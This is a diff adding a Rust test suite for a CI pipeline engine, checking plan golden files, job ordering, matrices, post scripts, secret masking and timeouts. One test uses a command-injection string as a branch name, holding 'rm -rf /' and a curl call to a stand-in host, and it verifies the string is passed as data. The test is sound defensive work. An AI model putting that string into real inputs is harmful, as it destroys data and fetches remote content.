@@ -1,0 +1,631 @@
+//! Tests of the pipeline: golden files for parsing and planning
+//! (`tests/pipelines/{valid,invalid}`; `SKIFF_BLESS=1` rewrites them), the
+//! JSON Schema, and the engine with an in-test executor.
+
+use std::collections::BTreeMap;
+use std::future::Future;
+use std::path::{Path, PathBuf};
+use std::pin::Pin;
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use skiff_host::pipeline::{
+    LogLine, RunEvent, RunObserver, RunOptions, RunReport, Status, StepExecutor, StepOutcome, StepRef, StepRequest,
+    StepResult, load_file, load_str, run_pipeline,
+};
+
+fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+fn bless() -> bool {
+    std::env::var_os("SKIFF_BLESS").is_some_and(|v| v == "1")
+}
+
+/// Compares `actual` with the golden file, or rewrites it under `SKIFF_BLESS=1`.
+fn golden(path: &Path, actual: &str) -> Result<(), String> {
+    if bless() {
+        std::fs::write(path, actual).unwrap();
+        return Ok(());
+    }
+    let expected = std::fs::read_to_string(path).unwrap_or_default();
+    if expected == actual {
+        Ok(())
+    } else {
+        Err(format!(
+            "{} is out of date (run with SKIFF_BLESS=1 to update)\n--- expected\n{expected}\n--- actual\n{actual}",
+            path.display()
+        ))
+    }
+}
+
+fn yaml_files(dir: &str) -> Vec<PathBuf> {
+    let mut v: Vec<PathBuf> = std::fs::read_dir(root().join("tests/pipelines").join(dir))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.extension().is_some_and(|e| e == "yaml"))
+        .collect();
+    v.sort();
+    v
+}
+
+fn load_named(path: &Path) -> Result<skiff_host::pipeline::Plan, skiff_host::pipeline::Diagnostics> {
+    let text = std::fs::read_to_string(path).unwrap();
+    let name = path.file_name().unwrap().to_string_lossy().to_string();
+    load_str(&text, &name, path.parent().unwrap())
+}
+
+#[test]
+fn pipeline_valid_files_match_their_plans() {
+    let mut failures = Vec::new();
+    for y in yaml_files("valid") {
+        match load_named(&y) {
+            Ok(plan) => {
+                if let Err(e) = golden(&y.with_extension("plan"), &plan.render()) {
+                    failures.push(e);
+                }
+            }
+            Err(d) => failures.push(format!("{} should be valid:\n{d}", y.display())),
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
+}
+
+#[test]
+fn pipeline_invalid_files_match_their_errors() {
+    let mut failures = Vec::new();
+    for y in yaml_files("invalid") {
+        match load_named(&y) {
+            Ok(_) => failures.push(format!("{} should be invalid", y.display())),
+            Err(d) => {
+                if let Err(e) = golden(&y.with_extension("err"), &format!("{d}\n")) {
+                    failures.push(e);
+                }
+            }
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
+}
+
+#[test]
+fn pipeline_schema_is_current() {
+    let path = root().parent().unwrap().join("docs/pipeline.schema.json");
+    let actual = skiff_host::pipeline::schema::schema_text();
+    if let Err(e) = golden(&path, &actual) {
+        panic!("{}", e.lines().next().unwrap_or_default());
+    }
+}
+
+#[test]
+fn pipeline_examples_are_valid() {
+    let examples = root().parent().unwrap().join("examples");
+    for p in ["hello/.skiff/pipeline.yaml", "serverless-cd/serverless-pipeline.yaml"] {
+        if let Err(d) = load_file(&examples.join(p)) {
+            panic!("{p}:\n{d}");
+        }
+    }
+}
+
+// ------------------------------------------------------------------ engine
+
+/// Runs scripts in a tiny language of its own, one command a line:
+/// `fail MSG`, `out K=V`, `env K=V`, `path P`, `post SCRIPT`, `log TEXT` (with `${VAR}` from the env),
+/// `sleep MS`, `cancel`, `summary TEXT`. A built-in step logs its inputs and fails when `fail` is set.
+#[derive(Default)]
+struct Fake {
+    requests: Mutex<Vec<StepRequest>>,
+}
+
+fn expand(s: &str, env: &BTreeMap<String, String>) -> String {
+    let mut out = s.to_string();
+    for (k, v) in env {
+        out = out.replace(&format!("${{{k}}}"), v);
+    }
+    out
+}
+
+impl StepExecutor for Fake {
+    fn run_step<'a>(
+        &'a self,
+        req: StepRequest,
+        log: &'a (dyn Fn(LogLine) + Send + Sync),
+    ) -> Pin<Box<dyn Future<Output = StepResult> + Send + 'a>> {
+        Box::pin(async move {
+            self.requests.lock().unwrap().push(req.clone());
+            let say = |t: String| {
+                log(LogLine {
+                    job_id: req.job_id.clone(),
+                    step_id: req.step_id.clone(),
+                    level: "stdout".into(),
+                    text: t,
+                })
+            };
+            let mut r = StepResult::outcome(StepOutcome::Success);
+            match &req.uses {
+                StepRef::Shell { script, .. } => {
+                    for line in script.lines() {
+                        let (cmd, arg) = line.trim().split_once(' ').unwrap_or((line.trim(), ""));
+                        let kv = || {
+                            let (k, v) = arg.split_once('=').unwrap_or((arg, ""));
+                            (k.to_string(), expand(v, &req.env))
+                        };
+                        match cmd {
+                            "fail" => {
+                                r.outcome = StepOutcome::Failure(arg.to_string());
+                                break;
+                            }
+                            "cancel" => {
+                                r.outcome = StepOutcome::Cancelled;
+                                break;
+                            }
+                            "out" => {
+                                let (k, v) = kv();
+                                r.outputs.insert(k, v);
+                            }
+                            "env" => {
+                                let (k, v) = kv();
+                                r.env.insert(k, v);
+                            }
+                            "path" => r.path.push(arg.to_string()),
+                            "post" => r.post = Some(arg.to_string()),
+                            "summary" => r.summary = Some(arg.to_string()),
+                            "log" => say(expand(arg, &req.env)),
+                            "sleep" => tokio::time::sleep(Duration::from_millis(arg.parse().unwrap())).await,
+                            _ => {}
+                        }
+                    }
+                }
+                _ => {
+                    for (k, v) in &req.inputs {
+                        say(format!("{k}={v}"));
+                    }
+                    if req.inputs.get("fail").is_some_and(|f| f == "true") {
+                        r.outcome = StepOutcome::Failure("asked to fail".into());
+                    }
+                    r.outputs.insert("message".into(), req.inputs.get("message").cloned().unwrap_or_default());
+                }
+            }
+            r
+        })
+    }
+}
+
+#[derive(Default)]
+struct Events(Mutex<Vec<RunEvent>>);
+
+impl RunObserver for Events {
+    fn event(&self, e: &RunEvent) {
+        self.0.lock().unwrap().push(e.clone());
+    }
+}
+
+impl Events {
+    fn json(&self) -> String {
+        self.0.lock().unwrap().iter().map(|e| serde_json::to_string(e).unwrap()).collect::<Vec<_>>().join("\n")
+    }
+    fn logs(&self) -> Vec<String> {
+        self.0
+            .lock()
+            .unwrap()
+            .iter()
+            .filter_map(|e| match e {
+                RunEvent::Log(l) => Some(l.text.clone()),
+                _ => None,
+            })
+            .collect()
+    }
+}
+
+struct Run {
+    report: RunReport,
+    fake: Arc<Fake>,
+    events: Arc<Events>,
+    _ws: tempfile::TempDir,
+}
+
+impl Run {
+    fn job(&self, key: &str) -> &skiff_host::pipeline::JobReport {
+        self.report.jobs.iter().find(|j| j.key == key).unwrap_or_else(|| panic!("no job {key}"))
+    }
+    fn steps(&self, key: &str) -> Vec<(String, Status)> {
+        self.job(key).steps.iter().map(|s| (s.id.clone(), s.status)).collect()
+    }
+    fn request(&self, step_id: &str) -> StepRequest {
+        self.fake.requests.lock().unwrap().iter().find(|r| r.step_id == step_id).cloned().expect("step ran")
+    }
+}
+
+async fn run_with(yaml: &str, f: impl FnOnce(&mut RunOptions)) -> Run {
+    let plan = match load_str(yaml, "test.yaml", Path::new(".")) {
+        Ok(p) => p,
+        Err(d) => panic!("{d}"),
+    };
+    let ws = tempfile::tempdir().unwrap();
+    let mut opts = RunOptions {
+        run_id: "r1".into(),
+        run_number: 7,
+        run_attempt: 1,
+        event: serde_json::json!({"name": "push", "ref": "refs/heads/main"}),
+        workspace: ws.path().to_path_buf(),
+        ..Default::default()
+    };
+    f(&mut opts);
+    let fake = Arc::new(Fake::default());
+    let events = Arc::new(Events::default());
+    let report = run_pipeline(&plan, opts, fake.clone(), events.clone()).await;
+    Run { report, fake, events, _ws: ws }
+}
+
+async fn run(yaml: &str) -> Run {
+    run_with(yaml, |_| {}).await
+}
+
+use Status::{Failure, Skipped, Success};
+
+#[tokio::test]
+async fn pipeline_engine_runs_steps_and_passes_outputs_env_and_path() {
+    let r = run(r#"
+steps:
+  - id: a
+    run: |
+      out v=1.2
+      env GREETING=hi
+      path /opt/tool/bin
+  - id: b
+    uses: diag
+    with:
+      message: v${{ steps.a.outputs.v }} ${{ run.number }} ${{ steps.a.outputs.nope }}|
+  - id: c
+    run: log ${GREETING} ${PATH}
+"#)
+    .await;
+    assert!(r.report.success(), "{:?}", r.report);
+    assert_eq!(r.request("b").inputs["message"], "v1.2 7 |");
+    assert_eq!(r.request("c").env["GREETING"], "hi");
+    assert_eq!(r.request("c").env["PATH"], "/opt/tool/bin");
+    assert!(r.events.logs().contains(&"hi /opt/tool/bin".to_string()));
+    // A single job runs in the workspace itself.
+    assert_eq!(r.request("a").workspace, r._ws.path());
+}
+
+#[tokio::test]
+async fn pipeline_engine_if_defaults_to_success_and_honours_failure_and_always() {
+    let r = run(r#"
+steps:
+  - id: bad
+    run: fail broken
+  - id: skipped
+    run: log never
+  - id: on-failure
+    if: failure()
+    run: log recovering
+  - id: always
+    if: ${{ always() }}
+    run: log always
+  - id: plain-condition
+    if: event.name == 'push'
+    run: log no
+"#)
+    .await;
+    assert_eq!(r.report.status, Failure);
+    assert_eq!(
+        r.steps("main"),
+        vec![
+            ("bad".into(), Failure),
+            ("skipped".into(), Skipped),
+            ("on-failure".into(), Success),
+            ("always".into(), Success),
+            ("plain-condition".into(), Skipped),
+        ]
+    );
+    let bad = &r.job("main").steps[0];
+    assert_eq!(bad.error.as_deref(), Some("broken"));
+}
+
+#[tokio::test]
+async fn pipeline_engine_continue_on_error_and_outcome() {
+    let r = run(r#"
+steps:
+  - id: flaky
+    run: fail oops
+    continue-on-error: true
+  - id: next
+    if: steps.flaky.outcome == 'failure' && steps.flaky.conclusion == 'success'
+    run: log went on
+"#)
+    .await;
+    assert!(r.report.success());
+    assert_eq!(r.steps("main"), vec![("flaky".into(), Failure), ("next".into(), Success)]);
+}
+
+#[tokio::test]
+async fn pipeline_engine_dag_skips_dependents_of_a_failed_job_unless_always() {
+    let r = run(r#"
+jobs:
+  a:
+    outputs:
+      v: ${{ steps.s.outputs.v }}
+    steps:
+      - id: s
+        run: out v=42
+  b:
+    needs: a
+    steps:
+      - id: use
+        uses: diag
+        with:
+          message: got ${{ needs.a.outputs.v }} ${{ needs.a.result }}
+      - run: fail no
+  c:
+    needs: b
+    steps:
+      - run: log c
+  d:
+    needs: [b]
+    if: always()
+    steps:
+      - id: report
+        uses: diag
+        with:
+          message: b was ${{ needs.b.result }}
+  e:
+    needs: [b]
+    if: failure()
+    steps:
+      - run: log e
+"#)
+    .await;
+    assert_eq!(r.report.status, Failure);
+    assert_eq!(r.request("use").inputs["message"], "got 42 success");
+    assert_eq!(r.job("a").outputs["v"], "42");
+    assert_eq!(r.job("b").status, Failure);
+    assert_eq!(r.job("c").status, Skipped);
+    assert_eq!(r.job("d").status, Success);
+    assert_eq!(r.job("e").status, Success);
+    assert_eq!(r.request("report").inputs["message"], "b was failure");
+    // Several jobs: each in its own folder.
+    assert!(r.request("use").workspace.ends_with("b"));
+    // Order: a before b before d.
+    let order: Vec<String> = r.fake.requests.lock().unwrap().iter().map(|q| q.job_id.clone()).collect();
+    let pos = |j: &str| order.iter().position(|x| x == j).unwrap();
+    assert!(pos("a") < pos("b") && pos("b") < pos("d"));
+}
+
+#[tokio::test]
+async fn pipeline_engine_runs_independent_jobs_in_parallel() {
+    let yaml = r#"
+jobs:
+  one:
+    steps:
+      - run: sleep 300
+  two:
+    steps:
+      - run: sleep 300
+  three:
+    steps:
+      - run: sleep 300
+"#;
+    let t = std::time::Instant::now();
+    let r = run(yaml).await;
+    assert!(r.report.success());
+    assert!(t.elapsed() < Duration::from_millis(800), "took {:?}", t.elapsed());
+}
+
+#[tokio::test]
+async fn pipeline_engine_post_scripts_run_in_reverse_as_always() {
+    let r = run(r#"
+steps:
+  - id: one
+    run: log one
+    post: log cleanup-one
+  - id: two
+    run: |
+      post log cleanup-two
+      fail stop
+  - id: three
+    run: log three
+    post: log cleanup-three
+"#)
+    .await;
+    assert_eq!(r.report.status, Failure);
+    let logs = r.events.logs();
+    let i2 = logs.iter().position(|l| l == "cleanup-two").expect("post of two ran");
+    let i1 = logs.iter().position(|l| l == "cleanup-one").expect("post of one ran");
+    assert!(i2 < i1, "{logs:?}");
+    assert!(!logs.contains(&"cleanup-three".to_string()), "step three never ran");
+    let ids: Vec<String> = r.steps("main").into_iter().map(|s| s.0).collect();
+    assert_eq!(ids, vec!["one", "two", "three", "post-1", "post-2"]);
+}
+
+#[tokio::test]
+async fn pipeline_engine_matrix_expands_and_fail_fast_cancels_the_rest() {
+    let r = run(r#"
+jobs:
+  test:
+    strategy:
+      max-parallel: 1
+      matrix:
+        n: [1, 2, 3]
+    steps:
+      - run: |
+          log n=${N}
+          fail on purpose
+        env:
+          N: ${{ matrix.n }}
+"#)
+    .await;
+    assert_eq!(r.report.status, Failure);
+    assert_eq!(r.job("test-1").status, Failure);
+    assert_eq!(r.job("test-2").status, Status::Cancelled);
+    assert_eq!(r.job("test-3").status, Status::Cancelled);
+    assert_eq!(r.events.logs(), vec!["n=1"]);
+
+    let r = run(r#"
+jobs:
+  test:
+    strategy:
+      fail-fast: false
+      matrix:
+        os: [linux, mac]
+        v: [1, 2]
+        exclude: [{os: mac, v: 1}]
+        include: [{os: linux, extra: yes}, {os: windows, v: 9}]
+    steps:
+      - run: log ${{ matrix.os }}-${{ matrix.v }}-${{ matrix.extra }}
+"#)
+    .await;
+    assert!(r.report.success());
+    let mut logs = r.events.logs();
+    logs.sort();
+    assert_eq!(logs, vec!["linux-1-yes", "linux-2-yes", "mac-2-", "windows-9-"]);
+}
+
+#[tokio::test]
+async fn pipeline_engine_secrets_are_granted_by_reference_and_masked() {
+    let r = run_with(
+        r#"
+env:
+  PUBLIC: open
+steps:
+  - id: uses-one
+    uses: diag
+    with:
+      message: token ${{ secrets.TOKEN }}
+  - id: explicit
+    uses: diag
+    permissions:
+      secrets: [OTHER]
+  - id: none
+    run: log ${PUBLIC}
+"#,
+        |o| {
+            o.secrets = BTreeMap::from([
+                ("TOKEN".into(), "s3cr3t-value".into()),
+                ("OTHER".into(), "another-secret".into()),
+                ("UNUSED".into(), "unused-secret".into()),
+            ]);
+        },
+    )
+    .await;
+    assert!(r.report.success());
+    assert_eq!(r.request("uses-one").secrets.keys().collect::<Vec<_>>(), vec!["TOKEN"]);
+    assert_eq!(r.request("explicit").secrets.keys().collect::<Vec<_>>(), vec!["OTHER"]);
+    assert!(r.request("none").secrets.is_empty());
+    let json = r.events.json();
+    assert!(!json.contains("s3cr3t-value"), "{json}");
+    assert!(json.contains("token ***"), "{json}");
+    assert!(!json.contains("unused-secret"));
+}
+
+#[tokio::test]
+async fn pipeline_engine_expressions_reach_run_scripts_as_env_not_text() {
+    let evil = "main\"; rm -rf / ; echo $(curl evil.example) `id` ${HOME}";
+    let r = run_with(
+        r#"
+steps:
+  - id: s
+    run: |
+      log branch=${{ event.branch }}
+      log again ${{ event.branch }}
+"#,
+        |o| o.event = serde_json::json!({"branch": evil}),
+    )
+    .await;
+    assert!(r.report.success());
+    let req = r.request("s");
+    let StepRef::Shell { script, shell } = &req.uses else { panic!("a shell step") };
+    assert_eq!(shell, "bash");
+    assert_eq!(script, "log branch=${SKIFF_EXPR_1}\nlog again ${SKIFF_EXPR_2}\n");
+    assert!(!script.contains("rm -rf"));
+    assert_eq!(req.env["SKIFF_EXPR_1"], evil);
+    assert_eq!(req.env["SKIFF_EXPR_2"], evil);
+}
+
+#[tokio::test]
+async fn pipeline_engine_expression_errors_name_file_line_and_expression() {
+    let r = run(r#"
+steps:
+  - id: s
+    uses: diag
+    with:
+      message: ${{ fromJSON('not json') }}
+"#)
+    .await;
+    assert_eq!(r.report.status, Failure);
+    let err = r.job("main").steps[0].error.clone().unwrap();
+    assert!(err.starts_with("test.yaml:6:16: expression `fromJSON('not json')` failed"), "{err}");
+    assert!(r.fake.requests.lock().unwrap().is_empty(), "the step must not run");
+}
+
+#[tokio::test]
+async fn pipeline_engine_job_filter_runs_the_job_and_its_needs() {
+    let r = run_with(
+        r#"
+jobs:
+  a:
+    steps: [{run: log a}]
+  b:
+    needs: a
+    steps: [{run: log b}]
+  c:
+    steps: [{run: log c}]
+"#,
+        |o| o.job = Some("b".into()),
+    )
+    .await;
+    assert!(r.report.success());
+    let keys: Vec<&str> = r.report.jobs.iter().map(|j| j.key.as_str()).collect();
+    assert_eq!(keys, vec!["a", "b"]);
+}
+
+#[tokio::test]
+async fn pipeline_engine_job_timeout_cancels_remaining_steps() {
+    let r = run(r#"
+jobs:
+  slow:
+    timeout-minutes: 0.005
+    steps:
+      - run: sleep 500
+      - run: log after
+      - if: cancelled()
+        run: log saw-cancel
+"#)
+    .await;
+    assert_ne!(r.report.status, Success);
+    assert_eq!(r.events.logs(), vec!["saw-cancel"]);
+}
+
+#[tokio::test]
+async fn pipeline_engine_serverless_cd_plugins_map_to_builtins() {
+    let r = run(r#"
+steps:
+  - plugin: '@serverless-cd/checkout'
+  - plugin: '@serverless-cd/ding-talk'
+    id: ding
+    inputs:
+      webhook: https://oapi.dingtalk.com/robot/send
+"#)
+    .await;
+    assert!(r.report.success());
+    let reqs = r.fake.requests.lock().unwrap().clone();
+    assert_eq!(reqs[0].uses, StepRef::Builtin("checkout".into()));
+    assert_eq!(reqs[1].uses, StepRef::Builtin("notify".into()));
+    assert_eq!(reqs[1].inputs["provider"], "dingtalk");
+}
+
+#[tokio::test]
+async fn pipeline_engine_emits_events_in_order() {
+    let r = run("steps:\n  - run: log hi\n").await;
+    let kinds: Vec<String> = r
+        .events
+        .0
+        .lock()
+        .unwrap()
+        .iter()
+        .map(|e| serde_json::to_value(e).unwrap()["event"].as_str().unwrap().to_string())
+        .collect();
+    assert_eq!(
+        kinds,
+        vec!["run-started", "job-started", "step-started", "log", "step-finished", "job-finished", "run-finished"]
+    );
+}
